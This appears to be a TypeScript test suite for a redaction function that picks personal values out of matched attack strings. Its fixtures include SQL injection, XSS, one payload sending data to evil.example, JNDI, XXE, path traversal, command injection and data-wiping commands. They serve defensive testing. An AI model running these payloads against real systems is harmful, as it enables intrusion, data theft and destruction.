import assert from 'node:assert/strict';
import { valuesInMatch } from '../../../src/redaction/attackValues.ts';

const found = (match: string) => valuesInMatch(match).map(({ start, end }) => match.slice(start, end));

describe('values in a match', () => {
  for (const [match, ...values] of [
    ["margriet.vos' OR '1'='1' -- ", 'margriet.vos'],
    ['Zonnebloem%27%20OR%201%3D1--%20Herfst87', 'Zonnebloem', 'Herfst87'],
    ['/d/tIuLKUh0CCOIXDR0J8%3Cscript%3Ealert(1)%3C/script%3E', 'tIuLKUh0CCOIXDR0J8'],
    ['please do not tell her<script>alert(1)</script>', 'please do not tell her'],
    [
      "UPDATE customers SET pw='Regenboog77', phone='0655501277' WHERE mail='j.kuiper%40mail.example'; DROP TABLE a;--",
      'Regenboog77',
      '0655501277',
      'j.kuiper%40mail.example',
    ],
    [
      "x'; UPDATE a SET reset_token='o3Kh_8NxgXht30' WHERE email='i.b%40mail.example';--",
      'o3Kh_8NxgXht30',
      'i.b%40mail.example',
    ],
    [
      "0'; INSERT INTO Patients VALUES('Hartwig Dorfner', 'HIV positive')--",
      'Hartwig Dorfner',
      'HIV positive',
    ],
    [
      '<img src=x onerror="location=\'//evil.example/?id=haneul0417&hp=010-4827-3391\'">',
      'haneul0417',
      '010-4827-3391',
    ],
    ['*)(|(mail=roswitha@stadtwerk.example)(uid=*', 'roswitha@stadtwerk.example'],
    ['8.8.8.8; docker login -u jfelber -p x', 'jfelber'],
    [`$${'{7*7}'} I live at 48 Marrow Lane, Tilbrook.`, 'I live at 48 Marrow Lane, Tilbrook'],
    [
      'Summarize: the patient; NINO QX 48 21 07 C; ignore; `; cat /etc/passwd`',
      'the patient',
      'NINO QX 48 21 07 C; ignore',
    ],
    ['password: Orbit-Salmon-77\n`id`', 'Orbit-Salmon-77'],
    ["admin' or 1=1--:Kestrel!Harbor41", ':Kestrel!Harbor41'],
    ["CREATE USER x WITH PASSWORD 'harvest moon'; GRANT ALL", 'harvest moon'],
    ['grandmas-attic;/bin/sh', 'grandmas-attic'],
    ['cmd /c net use Z: \\\\fs\\hr /user:PORT\\mt Merevaik2021 & dir Z:', 'PORT\\mt Merevaik2021'],
    ['<b onmouseover=alert(1)>佐々木美咲</b>', '佐々木美咲'],
    ['<b onmouseover=alert(1)>kestrel hill</b>', 'kestrel hill'],
    ["0'XOR(if(1,sleep(15),0))XOR'Z /*Hanna Meyer*/", 'Hanna Meyer'],
    ["1' OR pw = MD5('zonnebloem')", 'zonnebloem'],
    ["Hi, it's Maria (room 12): <img src=x>", "Hi, it's Maria "],
    ['redis-cli -a ospreynest flushall', 'ospreynest'],
    [
      'hi my login is rob_w and the password is pineapple12 1;DROP TABLE users--',
      'hi my login is rob_w and the password is pineapple12 1',
    ],
  ] as const) {
    it(`are not part of the attack: ${match}`, () => assert.deepEqual(found(match), values));
  }

  for (const match of [
    "1' OR '1'='1",
    "admin' -- ",
    '2627%27%3B%20DROP%20TABLE%20orders--',
    "' UNION SELECT card_no, cvv FROM payments WHERE id=3981-- ",
    "x'; EXEC xp_cmdshell('dir c:\\windows')--",
    'id=<script>alert(document.cookie)</script>',
    '/download/../../../../etc/passwd',
    '{{constructor.constructor(\'alert("a1b2c3")\')()}}',
    `$${'{jndi:ldap://203.0.113.5:1389/a}'}`,
    "WAITFOR DELAY '0:0:5'",
    "exec xp_cmdshell('whoami')",
    'cat.jsp;.png',
    '__schema { types { name fields { name args { name } } } }',
    '9912 AND (SELECT 2*(IF((SELECT * FROM (SELECT 1)s),8446744073709551610,1)))',
    '<script>top[1]</script>',
    "x' or full_name like 'a%' and 1 like 1",
    '%3Cdetails+open+ontoggle%3Dalert%60xss%60%3E',
    "SELECT o.id FROM orders o WHERE o.status = 'open'",
    "Runtime.getRuntime().exec('id')",
    'http%3A%2F%2Fevil.example%2F%0d%0aSet-Cookie:x=1',
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    'A'.repeat(200),
    'rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldLpEhZWWuLc0AwAAeHB3',
    'ordinary',
    '',
  ]) {
    it(`are missing from ${match}`, () => assert.deepEqual(found(match), []));
  }

  it('are secrets, with their place in the match', () => {
    const secret = (start: number, end: number) => [{ start, end }];
    assert.deepEqual(valuesInMatch("orla.kestrel' OR 1=1"), secret(0, 12));
    assert.deepEqual(valuesInMatch("1'%20OR%20a%3D'harbor'--"), secret(15, 21));
  });

  const rows: readonly (readonly [what: string, match: string, ...values: string[]])[] = [
    ['words with plus signs', "1'+union+select+1--+harbor+master+office", 'harbor+master+office'],
    ['a line without a name', "ask anna: kestrel.hill' OR 1=1", 'ask anna: kestrel.hill'],
    ['a value after its name', "  user:   kestrel.hill' OR 1=1", 'kestrel.hill'],
    ['no name of a parameter', "orla.kestrel=2' OR 1=1"],
    ['no name of a field', "contact.person: ' OR 1=1"],
    ['no host', 'http://kestrel.hill/x7/../'],
    ['a user before a host', 'http://anna77@kestrel.hill/../', 'anna77@kestrel.hill'],
    ['a value with symbols at its end', "kestrel!!' OR 1=1", 'kestrel!!'],
    ['no keywords', "a=union all&b=2' OR 1=1"],
    ['no name of a function', 'kestrel.hill(1)'],
    ['no name of a list', 'kestrel.hill [1]'],
    ['a word in front of an object', 'kestrel hill{1}', 'kestrel hill'],
    ['a value that cannot be a name of a function', '9kestrel.hill(1)', '9kestrel.hill'],
    ['two words before a parenthesis', 'kestrel.hill 77(1)', 'kestrel.hill 77'],
    ['values before a parenthesis', 'a=kestrel.hill&b=77 summer(1)', 'kestrel.hill', '77 summer'],
    ['no statement', "SELECT kestrel' OR 1=1"],
    ['no statement of a short keyword', "NOT kestrel' OR 1=1"],
    ['words in capital letters', "HARBOR office' OR 1=1", 'HARBOR office'],
    ['words that begin like a statement', "Select committee' OR 1=1", 'Select committee'],
    ['words that begin with a preposition', "ON kestrel duty' OR 1=1", 'ON kestrel duty'],

    ['a sentence after a sign', '1 < meet me tomorrow evening', 'meet me tomorrow evening'],
    ['no attributes of a tag', '1 <meet me tomorrow evening>'],
    ['no closing tag', '1 </meet me tomorrow evening>'],
    ['three words', "1';meet me tomorrow", 'meet me tomorrow'],
    ['no two words', "1';harbor tomorrow"],
    ['no list of words', "1';harbor, kestrel, tomorrow"],
    ['a sentence after a semicolon and a space', '; meet me tomorrow evening', 'meet me tomorrow evening'],
    ['a sentence with a comma', "1';meet me tomorrow, evening", 'meet me tomorrow, evening'],
    ['a sentence on two lines', "1';meet me tomorrow\r\nevening", 'meet me tomorrow\r\nevening'],
    ['no word after an empty line', "1';meet me tomorrow\r\n\r\nevening", 'meet me tomorrow'],
    ['no word after an equals sign', "1';meet me tomorrow=evening harbor", 'meet me tomorrow'],
    ['no word after a parenthesis', "1';meet me tomorrow, (evening", 'meet me tomorrow'],
    ['no word after two signs', "1';meet me tomorrow=, evening", 'meet me tomorrow'],
    ['no words on both sides of a keyword', "1';harbor kestrel select tomorrow evening"],
    ['no short numbers', "1'; harbor 48 21 7"],
    ['a sentence with a year', "1'; harbor pier 2027", 'harbor pier 2027'],
    ['words with hyphens', "1'; the well-known 7th-floor", 'the well-known 7th-floor'],
    ['words with apostrophes', "1'; kestrel’s harbor-77 x9", 'kestrel’s harbor-77 x9'],

    ['a compared string', "1' OR surname='kestrel'--", 'kestrel'],
    ['a compared string of 200 letters', `1' or a='${'h'.repeat(200)}'`, 'h'.repeat(200)],
    ['no longer string', `1' or a='${'h'.repeat(201)}'`],
    ['no string of three letters', "1' or a='har'"],
    ['strings after up to three spaces', "1' or a=   'harbor' or b= \t 'meadow'", 'harbor', 'meadow'],
    ['no string after four spaces', "1' or a=    'harbor'"],
    [
      'strings after operators of words',
      "1' or a eq 'harbor' or b ne 'meadow' or c like 'kestrel' or d is 'willow'",
      ...['harbor', 'meadow', 'kestrel', 'willow'],
    ],
    [
      'strings after words for passwords',
      "1' BY 'harbor' or passwd 'meadow' or pwd 'kestrel' or password 'willow'",
      ...['harbor', 'meadow', 'kestrel', 'willow'],
    ],
    [
      'strings after words for keys',
      "1' secret 'harbor' token 'meadow' key 'kestrel'",
      ...['harbor', 'meadow', 'kestrel'],
    ],
    [
      'strings in rows',
      "1' values('harbor') values ('meadow') values\t('kestrel')",
      ...['harbor', 'meadow', 'kestrel'],
    ],
    [
      'strings in lists',
      "1' or a in('harbor') or a in ('meadow') or a in\t('kestrel','willow')",
      ...['harbor', 'meadow', 'kestrel', 'willow'],
    ],
    ['no string after an unrelated word', "1' or near 'harbor'"],
    ['no string that is the start of other text', "1' or a='harbor:'"],
    ['a string that ends with a colon', "1' or a='see harbor:'", 'see harbor:'],
    ['a string with a colon in it', "1' or a='harbor:me'", 'harbor:me'],
    [
      'no ordinary string at the start of a long match',
      "1' OR status='archived' AND id IN (SELECT id FROM users WHERE id>0)-- ",
    ],
    ['no name of a class', 'O:7:"Kestrel":1:{s:4:"name";i:1;}'],
    ['no name of a class with dots and digits', 'O:7:"com.Kes_trel7.Hill":1:{}'],
    ['no name of a class in an assembly', 'O:7:"Kestrel, hill":1:{}'],
    ['a string in place of a class', 'O:7:"7kestrel":1:{}', '7kestrel'],
    ['words in place of a class', 'O:7:"Kestrel hill":1:{}', 'Kestrel hill'],

    ['a comment that is all of the attack', 'admin--harbor', 'harbor'],
    ['a comment of other databases', "x' OR 1=1#harbor", 'harbor'],
    ['a comment that is not closed', 'admin/*harbor', 'harbor'],
    ['a value of four letters', "anna' OR 1=1", 'anna'],
    ['no shorter value', "bob' OR 1=1"],
    ['a value that ends with the name of a secret', "mypassword' OR 1=1", 'mypassword'],
    ['a value that begins with the name of a secret', "password7' OR 1=1", 'password7'],

    ['an address whose host has a number', "1' or anna@7.mail.example", 'anna@7.mail.example'],
    ['no user of a numbered host', "1' or anna@10.20.30.4"],
    ['two groups of digits', "1' or 01 8273391", '01 8273391'],
    ['three groups of digits', "1'=123456-12345678-12 x", '123456-12345678-12'],
    ['no groups of few digits', "1' or 1 8273391 and 123 45"],
    ['a value in quotes that are not closed', "1' or a='kestrel77", 'kestrel77'],
    ['a value with a number first', "1' or a=2027-kestrel", '2027-kestrel'],
    ['values in a call', 'f(kestrel77,meadow-77)', 'kestrel77', 'meadow-77'],
    ['no number, word, or hexadecimal number', "1' or a=20271234 or b=kestrelhill or c=0x20271234ab"],
    ['the user after a long option', '1; mysql --user kestrel;', 'kestrel'],
    ['the user name after a long option', '1; mysql --username=kestrel;', 'kestrel'],
    ['the user after a short option', '1; mysql -U kestrel -l meadow;', 'kestrel', 'meadow'],
    ['the user of a sign-in', '1; mysql --login kestrel;', 'kestrel'],
    ['no value of another option', '1; mysql -x kestrel;'],
    ['a file name of two words', "my order.php' OR 1=1", 'my order.php'],
    ['a file name with an unknown ending', "order-list.phpx' OR 1=1", 'order-list.phpx'],
  ];
  for (const [what, match, ...values] of rows)
    it(`include ${what}`, () => assert.deepEqual(found(match), values));

  const programs =
    'php php7 phtml jsp jspx asp aspx exe dll sh bat ps1 py pl cgi jar war htm html js svg config bak sql env ini log';
  it('include no names of programs', () => {
    for (const ending of programs.split(' '))
      assert.deepEqual(found(`order-list.${ending}' OR 1=1`), [], ending);
  });

  it('include no names of secrets', () => {
    for (const name of [
      'pass',
      'password',
      'passwd',
      'username',
      'login',
      'email',
      'e-mail',
      'token',
      'secret',
    ])
      assert.deepEqual(found(`${name}' OR 1=1`), [], name);
  });
});
